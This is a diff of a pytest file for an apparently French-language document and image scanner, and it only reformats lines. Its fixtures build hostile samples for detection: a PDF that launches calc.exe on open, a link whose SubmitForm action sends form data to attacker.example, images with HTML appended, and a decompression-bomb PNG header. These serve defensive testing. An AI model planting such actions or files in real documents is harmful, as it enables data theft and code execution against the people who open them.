@@ -68,7 +68,9 @@ def link_annotation(target: DictionaryObject):
             {
                 NameObject("/Type"): NameObject("/Annot"),
                 NameObject("/Subtype"): NameObject("/Link"),
-                NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
+                NameObject("/Rect"): ArrayObject(
+                    [NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]
+                ),
                 NameObject("/A"): target,
             }
         )
@@ -120,7 +122,10 @@ def rich_media(writer):
 @pytest.mark.parametrize(
     ("prepare", "found"),
     [
-        (on_open("/Launch", F=TextStringObject("calc.exe")), "lancement d'un programme (Launch) (/Root/OpenAction/S)"),
+        (
+            on_open("/Launch", F=TextStringObject("calc.exe")),
+            "lancement d'un programme (Launch) (/Root/OpenAction/S)",
+        ),
         (
             link_annotation(action("/SubmitForm", F=TextStringObject("https://attacker.example/collect"))),
             "envoi de formulaire (SubmitForm) (/Root/Pages/Kids[0]/Annots[0]/A/S)",
@@ -234,9 +239,15 @@ def chunk(kind: bytes, data: bytes) -> bytes:
         ),
         (png() + HTML, f"L'image PNG est suivie de {len(HTML)} octets qui n'en font pas partie"),
         (png()[:-20], "Le fichier commence comme une image PNG mais ne se lit pas entièrement comme telle"),
-        (b"\xff\xd8\xff\xe0" + HTML, "Le fichier commence comme une image JPEG mais ne se lit pas entièrement"),
+        (
+            b"\xff\xd8\xff\xe0" + HTML,
+            "Le fichier commence comme une image JPEG mais ne se lit pas entièrement",
+        ),
         (jpeg() + HTML, f"L'image JPEG est suivie de {len(HTML)} octets qui n'en font pas partie"),
-        (jpeg()[: len(jpeg()) // 2], "Le fichier commence comme une image JPEG mais ne se lit pas entièrement"),
+        (
+            jpeg()[: len(jpeg()) // 2],
+            "Le fichier commence comme une image JPEG mais ne se lit pas entièrement",
+        ),
         (
             # An IHDR of 100 000 × 100 000 pixels: ten billion pixels from a few dozen bytes.
             b"\x89PNG\r\n\x1a\n"
